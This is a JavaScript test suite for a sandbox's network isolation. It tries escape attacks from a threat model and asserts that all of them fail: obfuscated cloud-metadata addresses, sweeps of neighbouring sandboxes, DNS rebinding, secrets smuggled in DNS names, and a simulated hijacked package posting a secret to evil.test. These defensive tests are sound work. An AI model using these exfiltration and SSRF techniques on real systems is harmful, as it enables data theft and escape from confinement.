// Attacks of the threat model (tests/escape) that need a network to be tried: each has its id in the name of its tests. What
// succeeds here without a sandbox is in lab.test.mjs.
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { describe, test } from 'node:test';

import { memory } from '../e2e/lib/proc.mjs';
import { addresses, families, socketType } from './lib/addresses.mjs';
import { inside, openBench, session } from './lib/bench.mjs';
import { decode, encodeQuery } from './lib/dns_message.mjs';

const bench = openBench();
const { public: server, lan } = addresses;
const refused = ['ECONNREFUSED', 'ENOTFOUND', 'ENETUNREACH', 'EHOSTUNREACH', 'EADDRNOTAVAIL', 'EINVAL', 'EAI_AGAIN'];
const nobodyCame = async () => {
  const { connections, datagrams, host } = await bench.lab.log();
  assert.deepEqual([connections, datagrams, host.connections, host.datagrams], [[], [], [], []]);
};
function allRefused(seen) {
  assert.deepEqual(Object.entries(seen).filter(([, outcome]) => !refused.includes(outcome)), []);
  assert.ok(Object.keys(seen).length > 0);
}
const dialAll = (hosts) => outcomes(Object.fromEntries(hosts.map(([host, port]) => [`${host} ${port}`, dial(host, port)])));

test('NW01 NW14 with the network off nothing leaves, whatever the variables for proxies say', async (t) => {
  const server_ = await bench.serve(t, { BELLJAR_NETWORK: 'none' });
  await inside(server_, () => 0);
  await bench.lab.reset();
  const before = bench.lab.arrived();
  const { seen } = await inside(server_, async () => {
    Object.assign(process.env, { HTTP_PROXY: 'http://93.184.216.34:8080', HTTPS_PROXY: 'http://93.184.216.34:8080', NO_PROXY: '*', NODE_USE_ENV_PROXY: '1' });
    const child = cp.spawnSync('node', ['-e', "fetch('http://good.test').then(() => console.log('ok'), (error) => console.log(error.cause.code))"], { encoding: 'utf8' });
    return outcomes({ fetch: get('http://good.test/'), address: get('http://93.184.216.34/'), six: get('http://[2606:4700::1111]/'), raw: dial('93.184.216.34', 443), resolver: dial('10.0.2.3', 53), child: child.stdout.trim() });
  });
  allRefused(seen);
  assert.deepEqual(bench.lab.arrived(), before);
});

describe('metadata services', () => {
  const spellings = ['169.254.169.254', '2852039166', '0xa9fea9fe', '0xa9.0xfe.0xa9.0xfe', '0251.0376.0251.0376', '169.254.43518', '169.16689662', '::ffff:169.254.169.254', '::ffff:a9fe:a9fe', '64:ff9b::a9fe:a9fe', '2002:a9fe:a9fe::', 'fd00:ec2::254', '169.254.170.2', '169.254.0.23', '100.100.100.200', '100.96.0.96', '192.0.0.192', 'fd20:ce::254', 'metadata.google.internal', 'meta.test'];
  for (const network of ['internet', 'allow:*.test,meta.test,metadata.google.internal,*.internal']) {
    test(`NW02 metadata services are not reached in any spelling: ${network.split(':')[0]}`, async () => {
      const { seen } = await bench.inside(dialAll, { network, data: spellings.flatMap((host) => [[host, 80], [host, 8080]]) });
      allRefused(seen);
      const urls = await bench.inside((hosts) => outcomes(Object.fromEntries(hosts.map((host) => [host, get(`http://${host.includes(':') ? `[${host}]` : host}/latest/meta-data/`)]))), { network, data: spellings });
      allRefused(urls.seen);
      await nobodyCame();
    });
  }

  test('NW02 NW04 an IPv4 address in the old form for IPv6 leads nowhere', async () => {
    const { seen } = await bench.inside((hosts) => outcomes(Object.fromEntries(hosts.map((host) => [host, dial(host, 80)]))), { data: ['::169.254.169.254', '::10.1.2.3', '::127.0.0.1', '::93.184.216.99', '::ffff:0:10.1.2.3'] });
    assert.deepEqual(Object.entries(seen).filter(([, outcome]) => !refused.includes(outcome)), []);
    await nobodyCame();
  });
});

test('NW04 the host is not reached on any of its addresses and ports, nor belljar on those of the sandbox\'s network', async () => {
  const own = ['127.0.0.1', '127.1', '0', '0.0.0.0', '::1', '::', 'localhost', 'localhost.', 'ip6-localhost', 'host.docker.internal', '10.0.2.1', '10.0.2.2', '10.0.2.15', 'fd00::2', 'fd00::3', 'fd00::15', addresses.host.v4, addresses.host.v6, `::ffff:${addresses.host.v4}`, 'self.test', 'loop.test', 'zero.test'];
  const data = [...own.flatMap((host) => [7777, 7778, 22, 80].map((port) => [host, port])), ...[1, 22, 80, 443, 5353, 65535].map((port) => ['10.0.2.3', port])];
  for (const network of ['internet', 'allow:*.test:7777,self.test:7777,self.test:7778,loop.test:7778,zero.test:7778,host.docker.internal:7777,localhost:7778']) {
    allRefused((await bench.inside(dialAll, { network, data })).seen);
    await nobodyCame();
  }
});

test('NW05 other sandboxes are not reached, by address, broadcast or multicast', async (t) => {
  const victim = await session(t, bench.server, { network: 'internet' });
  const listener = "const got = []; require('net').createServer((s) => { got.push('tcp'); s.end('victim'); }).listen(5555, '::'); for (const kind of ['udp4', 'udp6']) { const u = require('dgram').createSocket({ type: kind, ipv6Only: kind === 'udp6' }); u.on('message', () => got.push(kind)); u.bind(5555, () => { try { u.addMembership(kind === 'udp4' ? '224.0.0.251' : 'ff02::1%lo'); } catch {} }); } setInterval(() => require('fs').writeFileSync('/tmp/got', got.join()), 20); setTimeout(() => require('fs').writeFileSync('/tmp/ready', ''), 50)";
  const started = await bench.server.call('sandbox_exec', { container_id: victim, commands: [`nohup node -e "${listener}" >/dev/null 2>&1 & while [ ! -e /tmp/ready ]; do :; done`] });
  assert.ok(!started.isError, started.text);
  const { seen } = await bench.inside(async () => {
    const sweep = await outcomes(Object.fromEntries(Array.from({ length: 254 }, (_, n) => `10.0.2.${n + 1}`).map((host) => [host, dial(host, 5555)])));
    const send = (kind, host) => new Promise((resolve) => {
      const socket = dgram.createSocket(kind);
      socket.bind(0, () => {
        if (kind === 'udp4') socket.setBroadcast(true);
        socket.on('error', (error) => resolve(error.code));
        socket.send('x', 5555, host, (error) => resolve(error?.code ?? 'sent') ?? socket.close());
      });
    });
    const sent = {};
    for (const host of ['255.255.255.255', '10.0.2.255', '224.0.0.1', '224.0.0.251', '239.255.255.250']) sent[host] = await send('udp4', host);
    for (const host of ['ff02::1%lo', 'ff02::fb%lo', 'ff05::1', 'ff0e::1', 'fe80::1%lo']) sent[host] = await send('udp6', host);
    return { sweep, sent, arp: fs.readFileSync('/proc/net/arp', 'utf8').trim().split('\n').length };
  });
  allRefused(seen.sweep);
  assert.equal(seen.arp, 1, 'there are no neighbours to see');
  const { stdout } = (await inside(bench.server, () => fs.readFileSync('/tmp/got', 'utf8'), { in: victim }));
  assert.equal(stdout, '""');
  await nobodyCame();
});

test('NW06 abstract sockets of the host and of neighbours are not there', async (t) => {
  const name = `belljar-lab-${randomUUID()}`;
  await bench.lab.host.ask('tcp', { kind: 'greeter', port: `\0${name}-host` });
  const neighbour = await session(t, bench.server, { network: 'internet' });
  await bench.server.call('sandbox_exec', { container_id: neighbour, commands: [`nohup node -e "require('net').createServer((s) => s.end('neighbour')).listen('\\0${name}-neighbour', () => require('fs').writeFileSync('/tmp/ready', ''))" >/dev/null 2>&1 & while [ ! -e /tmp/ready ]; do :; done`] });
  const connect = (names) => outcomes(Object.fromEntries(names.map((name) => [name, new Promise((resolve) => net.connect({ path: `\0${name}` }).on('connect', () => resolve('connected')).on('error', (error) => resolve(error.code)))])));
  const own = await inside(bench.server, connect, { in: neighbour, data: [`${name}-neighbour`] });
  assert.deepEqual(own.seen, { [`${name}-neighbour`]: 'connected' });
  assert.deepEqual(await bench.onHost(connect, [`${name}-host`]), { [`${name}-host`]: 'connected' });
  for (const network of ['internet', 'host']) {
    const { seen } = await inside(bench.server, connect, { network, data: [`${name}-host`, `${name}-neighbour`] });
    for (const outcome of Object.values(seen)) assert.match(outcome, /^(ECONNREFUSED|EPERM|EACCES)$/);
  }
});

test('NW08 no data leaves in names, whoever is asked and however', async () => {
  const secret = randomUUID().replaceAll('-', '');
  const { seen } = await bench.inside(async ({ secret, servers }) => {
    const names = [`${secret}.evil.test`, `${secret}.test`, `${secret}.good.test.evil.test`, `good.test.${secret}`, `${secret}.${secret}.${secret}.other.test`, `${secret}good.test`, secret];
    const quick = { timeout: 300, tries: 1 };
    return outcomes(Object.fromEntries([
      ...names.flatMap((name) => [[`lookup ${name}`, lookup(name)], ...['A', 'AAAA', 'TXT', 'MX', 'NS', 'CNAME', 'SRV', 'PTR', 'CAA'].map((type) => [`${type} ${name}`, resolve(name, type)])]),
      ...servers.map((server) => [`at ${server}`, resolve(`${secret}.good.test`, 'TXT', server, quick)]), ['reverse', dns.promises.reverse('93.184.216.34').catch((error) => error.code)],
      ['service', dns.promises.lookupService('93.184.216.34', 80).catch((error) => error.code)],
    ]));
  }, { network: 'allow:good.test', data: { secret, servers: ['9.9.9.9', '[2620:fe::9]', '93.184.216.34', '10.1.2.3', '127.0.0.53', '8.8.8.8'] } });
  for (const [what, outcome] of Object.entries(seen)) {
    if (what !== 'service') assert.match(String(outcome), /^(ENOTFOUND|ETIMEOUT|ECONNREFUSED)$/, what);
  }
  const { queries } = await bench.lab.log();
  assert.deepEqual(queries, []);
  await nobodyCame();
});

test('NW08 of a query nothing leaves but its question', async () => {
  const secret = randomUUID();
  const plain = encodeQuery({ id: 3, name: 'good.test' });
  const option = Buffer.concat([Buffer.from([0, 0, 41, 16, 0, 0, 0, 0, 0, 0, 4 + secret.length, 0xfd, 0xe9, 0, secret.length]), Buffer.from(secret)]);
  const additional = Buffer.concat([plain, option]);
  additional[11] = 1; // there is one additional record
  const { seen } = await bench.inside((queries) => Promise.all(queries.map((query) => rawQuery(query))), { network: 'allow:good.test', data: [additional, plain].map((query) => query.toString('base64')) });
  assert.ok(seen.every((answer) => decode(Buffer.from(answer, 'base64')).answers[0].data === server.v4));
  const trailing = await bench.inside(({ query, control }) => rawQuery(query, { control }), { network: 'allow:good.test', data: { query: Buffer.concat([plain, Buffer.from(secret)]).toString('base64'), control: encodeQuery({ id: 4, name: 'good.test' }).toString('base64') } });
  assert.notEqual(trailing.seen, 'timeout');
  assert.ok(!JSON.stringify(await bench.lab.log()).includes(secret));
});

for (const family of families) {
  const number = family === 'v4' ? 4 : 6;
  for (const network of ['internet', 'allow:rebind.test']) {
    test(`NW10 a name that leads elsewhere the second time does not lead there: ${network}, ${family}`, async () => {
      const { seen } = await bench.inside(async ({ family, first, second }) => {
        const results = { first: await lookup('rebind.test', { family }), dialled: await dial(first, 80), second: await lookup('rebind.test', { family }), rebound: await dial(second, 80) };
        for (let n = 0; n < 5; n += 1) results[`again ${n}`] = await dial('rebind.test', 80, { family });
        return { ...results, fetched: await get('http://rebind.test/') };
      }, { network, data: { family: number, first: server[family], second: lan[family] } });
      assert.deepEqual([seen.first, seen.dialled, seen.rebound], [[server[family]], 'connected', 'ECONNREFUSED']);
      assert.ok(!/^10\.|^fd/.test(seen.fetched), seen.fetched);
      const { connections } = await bench.lab.log();
      assert.deepEqual(connections.filter(({ to }) => !Object.values(server).includes(to)), []);
    });
  }
}

test('NW10 a redirect, an address among others, or one in another form leads no further than its own address', async () => {
  const { seen } = await bench.inside(async ({ lan }) => outcomes({
    redirect: get(`http://good.test/go/${encodeURIComponent(`http://${lan.v4}/`)}`), six: get(`http://good.test/go/${encodeURIComponent(`http://[${lan.v6}]/`)}`), named: get(`http://good.test/go/${encodeURIComponent('http://evil.test/')}`),
    mapped: dial('mapped.test', 80), translated: dial('translated.test', 80), tenTimes: Promise.all(Array.from({ length: 10 }, () => dial('mixed.test', 80))).then((all) => all.join()),
  }), { data: { lan } });
  const { tenTimes, ...others } = seen;
  allRefused(others);
  assert.match(tenTimes, /connected|ECONNREFUSED/);
  const { connections } = await bench.lab.log();
  assert.deepEqual(connections.filter(({ to }) => !Object.values(server).includes(to)), []);
});

test('NW13 there is no other protocol than TCP and UDP, and UDP has the same policy', async (t) => {
  const script = 'use Socket; use Errno; for (map { [split /,/] } @ARGV) { my ($f, $t, $p) = @$_; socket(my $s, $f, $t, $p) ? print "$f,$t,$p open\\n" : print "$f,$t,$p " . (grep { $!{$_} } keys %!)[0] . "\\n" }';
  const kinds = ['2,3,1', '2,3,255', '2,2,1', '10,3,58', '10,2,58', '2,3,6', '17,3,768', '17,2,768', '2,1,132', '2,5,132', '2,6,33', '2,2,136', '2,1,262', '16,3,12', '40,1,0', '38,5,0', '29,3,1', '31,3,0'];
  const { seen } = await bench.inside(({ script, kinds }) => {
    const { stdout, error } = cp.spawnSync('perl', ['-e', script, ...kinds], { encoding: 'utf8' });
    return error ? error.code : stdout.trim().split('\n');
  }, { data: { script, kinds } });
  if (seen === 'ENOENT') return t.skip('there is no perl to make sockets with');
  assert.deepEqual(seen.filter((line) => !/ (EPERM|EACCES|EAFNOSUPPORT|EPROTONOSUPPORT|ESOCKTNOSUPPORT|EINVAL|ENOSYS)$/.test(line)), []);
  assert.equal(seen.length, kinds.length);
  for (const family of families) {
    const udp = await bench.inside(({ kind, to, last }) => datagrams(kind, [[to, 443, 'quic'], [to, 7, 'echo'], [last, 7, 'last']]), { network: 'internet', data: { kind: socketType[family], to: lan[family], last: server[family] } });
    assert.deepEqual(udp.seen, ['last']);
  }
});

test('NW13 NW14 no option of a socket changes where its packets go', async (t) => {
  // SO_MARK of both families, IP_TRANSPARENT, IPV6_TRANSPARENT, a source route, IPV6_HDRINCL.
  const script = 'use Socket; use Errno; socket(my $s, 10, 1, 6) or die; socket(my $f, 2, 1, 6) or die; for ([$s, 1, 36, pack("i", 1)], [$f, 1, 36, pack("i", 1)], [$f, 0, 19, pack("i", 1)], [$s, 41, 75, pack("i", 1)], [$f, 0, 4, pack("C*", 131, 7, 4, 10, 1, 2, 3, 0)], [$s, 41, 36, pack("i", 1)]) { my ($socket, @option) = @$_; print setsockopt($socket, $option[0], $option[1], $option[2]) ? "set" : (grep { $!{$_} } keys %!)[0], "\\n" }';
  const { seen } = await bench.inside((script) => {
    const { stdout, stderr, error } = cp.spawnSync('perl', ['-e', script], { encoding: 'utf8' });
    return error ? error.code : stdout.trim().split('\n').concat(stderr || []);
  }, { data: script });
  if (seen === 'ENOENT') return t.skip('there is no perl to make sockets with');
  assert.deepEqual(seen.filter((outcome) => !/^(EPERM|EACCES|ENOPROTOOPT|EINVAL)$/.test(outcome)), []);
  assert.equal(seen.length, 6);
});

test('NW26 the port where belljar accepts connections of a sandbox leads programs nowhere', async () => {
  const { seen, network } = await bench.inside(() => outcomes(Object.fromEntries(['127.0.0.1', '::1', '10.0.2.15', 'fd00::15', '127.0.0.9'].flatMap((host) => Array.from({ length: 50 }, (_, n) => [`${host} ${n}`, ask(host, 1, 'let me out')])))), { network: 'host' });
  assert.deepEqual([...new Set(Object.values(seen))].filter((outcome) => !['', 'ECONNRESET', 'ECONNREFUSED', 'EPIPE'].includes(outcome)), []);
  assert.deepEqual(network, []);
  await nobodyCame();
});

test('NW24 NW25 the network of a sandbox has one interface and shows nothing of another', async () => {
  const { seen } = await bench.inside(() => {
    const read = (path) => { try { return fs.readFileSync(path, 'utf8'); } catch (error) { return error.code; } };
    const list = (path) => { try { return fs.readdirSync(path); } catch (error) { return error.code; } };
    return {
      interfaces: Object.entries(os.networkInterfaces()).flatMap(([name, all]) => all.map(({ address }) => `${name} ${address}`)).sort(), names: [list('/var/run/netns'), list('/run/netns')], init: (() => { try { return fs.readlinkSync('/proc/1/ns/net'); } catch (error) { return error.code; } })(), own: fs.readlinkSync('/proc/self/ns/net'),
      six: read('/proc/net/if_inet6').trim().split('\n').map((line) => line.split(/ +/).at(-1)), sockets: ['tcp', 'tcp6', 'udp', 'udp6', 'raw', 'packet', 'unix'].map((name) => [name, read(`/proc/net/${name}`).split('\n').length]), forwarding: read('/proc/sys/net/ipv4/ip_forward'),
      descriptors: fs.readdirSync('/proc/self/fd').map((fd) => { try { return fs.readlinkSync(`/proc/self/fd/${fd}`); } catch { return ''; } }).filter((target) => target.startsWith('socket:')),
    };
  }, { network: 'internet' });
  const known = new Set(['lo 10.0.2.15', 'lo 127.0.0.1', 'lo ::1', 'lo fd00::15']);
  assert.deepEqual(seen.interfaces.filter((one) => !known.has(one)), []);
  assert.deepEqual(new Set(seen.six), new Set(['lo']));
  for (const one of seen.names) assert.ok(typeof one === 'string', `${one}`);
  assert.notEqual(seen.own, bench.lab.host.inode);
  assert.ok(seen.init === 'EACCES' || seen.init === seen.own || seen.init === 'ENOENT', seen.init);
  assert.deepEqual(seen.descriptors, [], 'programs hold no socket that they did not make');
});

test('NW25 no router and no link-local address is there to speak with', async () => {
  const { seen } = await bench.inside(async () => {
    const send = (host) => new Promise((resolve) => {
      const socket = dgram.createSocket('udp6').on('error', (error) => resolve(error.code));
      socket.send('x', 5353, host, (error) => resolve(error?.code ?? 'sent') ?? socket.close());
    });
    return { tcp: await outcomes(Object.fromEntries(['fe80::1%lo', 'fe80::1', 'ff02::2%lo', 'fe80::a9fe:a9fe%lo'].map((host) => [host, dial(host, 80)]))), udp: await outcomes(Object.fromEntries(['ff02::1%lo', 'ff02::2%lo', 'ff02::fb', 'fe80::1%lo'].map((host) => [host, send(host)]))) };
  });
  assert.deepEqual(Object.entries(seen.tcp).filter(([, outcome]) => outcome === 'connected' || outcome === 'timeout'), []);
  await nobodyCame();
});

test('NW26 what one sandbox looked up opens nothing to another', async (t) => {
  const [first, second] = [await session(t, bench.server, { network: 'allow:good.test' }), await session(t, bench.server, { network: 'allow:good.test,other.test' })];
  const look = await inside(bench.server, async () => [await lookup('good.test', { family: 4 }), await dial('93.184.216.34', 80)], { in: first });
  assert.deepEqual(look.seen, [[server.v4], 'connected']);
  assert.equal((await inside(bench.server, () => dial('93.184.216.34', 80), { in: second })).seen, 'ECONNREFUSED');
});

test('NW26 two sandboxes with the same ports speak with the same peer, each for itself', async (t) => {
  const sessions = [await session(t, bench.server, { network: 'internet' }), await session(t, bench.server, { network: 'internet' })];
  const speak = (mine) => Promise.all([
    new Promise((resolve) => {
      let text = '';
      const socket = net.connect({ host: '93.184.216.34', port: 7, localPort: 40_000 }, () => socket.end(mine.repeat(1000)));
      socket.on('data', (bytes) => (text += bytes)).on('end', () => resolve(text === mine.repeat(1000) ? mine : text)).on('error', (error) => resolve(error.code));
    }),
    new Promise((resolve) => {
      const socket = dgram.createSocket('udp4').bind(40_000, () => socket.send(mine, 7, '93.184.216.34'));
      socket.on('message', (bytes) => resolve(String(bytes)) ?? socket.close());
    }),
  ]);
  const results = await Promise.all(sessions.map((id, n) => inside(bench.server, speak, { in: id, data: `sandbox ${n} ` })));
  assert.deepEqual(results.map(({ seen }) => seen), [0, 1].map((n) => [`sandbox ${n} `, `sandbox ${n} `]));
});

test('RS28 thousands of connections and datagrams of one sandbox leave the server and its neighbours at work', async (t) => {
  const neighbour = await session(t, bench.server, { network: 'internet' });
  const { seen } = await bench.inside(async () => {
    const counts = {};
    const count = (what) => (counts[what] = (counts[what] ?? 0) + 1);
    const sockets = [];
    for (let round = 0; round < 20; round += 1) {
      await Promise.all(Array.from({ length: 100 }, () => new Promise((resolve) => {
        const socket = net.connect(9, '93.184.216.34');
        sockets.push(socket);
        socket.on('connect', () => resolve(count('connected'))).on('error', (error) => resolve(count(error.code)));
      })));
    }
    for (let n = 0; n < 2000; n += 1) {
      const socket = dgram.createSocket('udp4');
      await new Promise((resolve) => socket.send('x', 9, '93.184.216.34', resolve));
      socket.close();
    }
    return counts;
  });
  assert.ok(seen.connected > 50, JSON.stringify(seen));
  assert.deepEqual(Object.keys(seen).filter((outcome) => !['connected', 'ECONNREFUSED', 'ECONNRESET', 'EMFILE', 'EAGAIN'].includes(outcome)), []);
  assert.equal((await inside(bench.server, () => ask('93.184.216.34', 7, 'still here'), { in: neighbour })).seen, 'still here');
});

test('RS28 hosts that never answer keep nobody but the one who asks for them', async (t) => {
  const neighbour = await session(t, bench.server, { network: 'internet' });
  await bench.inside(async ({ v4, v6 }) => {
    for (let n = 0; n < 300; n += 1) net.connect(n + 1, n % 2 ? v4 : v6).on('error', () => {});
    const socket = dgram.createSocket('udp4');
    for (let n = 0; n < 300; n += 1) await new Promise((resolve) => socket.send('x', n + 1, v4, resolve));
  }, { data: addresses.silent });
  assert.equal((await inside(bench.server, () => ask('93.184.216.34', 7, 'still here'), { in: neighbour })).seen, 'still here');
});

test('NW21 what a peer sends and nobody reads is not kept by the server', async () => {
  await bench.inside(() => ask('93.184.216.34', 7, 'warm'));
  const before = memory(bench.server.pid, 'VmRSS');
  const { seen } = await bench.inside(async () => {
    const first = await Promise.all(Array.from({ length: 8 }, () => new Promise((resolve, reject) => {
      const socket = net.connect(80, '93.184.216.34', () => socket.write('GET /bytes/1000000000 HTTP/1.1\r\nHost: x\r\n\r\n'));
      socket.once('data', (bytes) => resolve(bytes.length) ?? socket.pause()).on('error', reject);
    })));
    // One that is read to its end: by then the others have sent all that anybody would take.
    let read = 0;
    for await (const part of (await fetch('http://93.184.216.34/bytes/200000000')).body) read += part.length;
    return { first: first.length, read };
  });
  assert.deepEqual(seen, { first: 8, read: 200_000_000 });
  assert.ok(memory(bench.server.pid, 'VmHWM') - before < 64 << 20, `${memory(bench.server.pid, 'VmHWM') - before} bytes more than ${before}`);
});

test('IJ17 rules that look like another name are refused, or mean exactly what they say', async () => {
  for (const rule of ['*.', '*', '**', '*.*.test', 'go*d.test', '.good.test', 'good..test', 'evil.test#.good.test', 'good.test@evil.test', 'http://good.test', 'good.test/', 'good.test:', 'good.test:0', 'good.test:65536', 'good.test:80:80', 'good.test evil.test', 'g\u043e\u043ed.test', 'good.test\0.evil.test', 'good.test\n', ',', 'good.test,,', '[good.test]', '[::1', '::1', '10.0.0.0/8', `${'a'.repeat(64)}.test`]) {
    const result = await bench.server.run('1', { network: `allow:${rule}` });
    assert.equal(result.isError, true, `allow:${rule}`);
    assert.match(result.text, /network/, rule);
  }
  const { seen } = await bench.inside(async () => outcomes({
    exact: dial('good.test', 80), upper: dial('GOOD.TEST', 80), dot: dial('good.test.', 80), longer: dial('good.test.evil.test', 80), prefix: dial('xgood.test', 80), beneath: dial('sub.good.test', 80), user: import('node:http').then((http) => new Promise((resolve) => http.get('http://good.test@evil.test/', () => resolve('answered')).on('error', (error) => resolve(error.code)))),
    fragment: get('http://evil.test#.good.test/'), homograph: get('http://g\u043e\u043ed.test/'), wide: get('http://ｇｏｏｄ.test/'), slash: get('http://evil.test\\@good.test/'),
  }), { network: 'allow:good.test' });
  assert.deepEqual({ ...seen, wide: 'as it is written', slash: seen.slash }, { exact: 'connected', upper: 'connected', dot: 'connected', longer: 'ENOTFOUND', prefix: 'ENOTFOUND', beneath: 'ENOTFOUND', user: 'ENOTFOUND', fragment: 'ENOTFOUND', homograph: 'ENOTFOUND', wide: 'as it is written', slash: seen.slash });
  assert.ok((await bench.lab.log()).queries.every(({ name }) => name.toLowerCase() === 'good.test'));
});

// What a package does that somebody has taken over: it takes what it finds and sends it home, by any way that there is.
for (const network of ['none', 'allow:', 'allow:registry.test', 'allow:good.test:8080']) {
  test(`nothing that a program has gets out by a way that is not allowed: ${network}`, async () => {
    const secret = randomUUID().replaceAll('-', '');
    const { seen } = await bench.inside(async ({ secret, network }) => {
      if (network.includes('good.test')) await lookup('good.test'); // its addresses are allowed now, on one port
      const hosts = ['93.184.216.34', '[2606:4700::1111]', '10.1.2.3', '[fd12::7]', '169.254.169.254', '10.0.2.2', 'good.test', 'other.test', 'evil.test', `${secret}.test`];
      const bare = (host) => host.replace(/[[\]]/g, '');
      const post = hosts.map((host) => [`post ${host}`, get(`http://${host}/sum`, { method: 'POST', body: secret, headers: { 'x-secret': secret } })]);
      const raw = hosts.flatMap((host) => [7, 9, 22, 25, 443, 6379].map((port) => [`raw ${host} ${port}`, ask(bare(host), port, secret)]));
      const names = ['A', 'TXT', 'CNAME'].map((type) => [`name ${type}`, resolve(`${secret}.evil.test`, type)]);
      const udp = hosts.slice(0, 6).map((host) => [`udp ${host}`, new Promise((done) => {
        const socket = dgram.createSocket(net.isIPv6(bare(host)) ? 'udp6' : 'udp4').on('error', (error) => done(error.code));
        socket.send(secret, 7, bare(host), (error) => done(error?.code ?? 'sent') ?? socket.close());
      })]);
      const child = cp.spawn('node', ['-e', `require('net').connect(80, '93.184.216.34').on('error', (e) => console.log(e.code)).end('${secret}')`]);
      const ofChild = ['child', new Promise((done) => child.stdout.once('data', (text) => done(String(text).trim())))];
      return outcomes(Object.fromEntries([...post, ...raw, ...names, ofChild, ...udp]));
    }, { network, data: { secret, network } });
    const came = Object.entries(seen).filter(([, outcome]) => ![...refused, 'sent', 'ESERVFAIL', 'EREFUSED', 'ETIMEOUT', 'EPERM', 'ERR_INVALID_URL'].includes(outcome));
    assert.deepEqual(came, []);
    assert.ok(!JSON.stringify(await bench.lab.log()).includes(secret), 'the secret is nowhere in the world');
    await nobodyCame();
  });
}
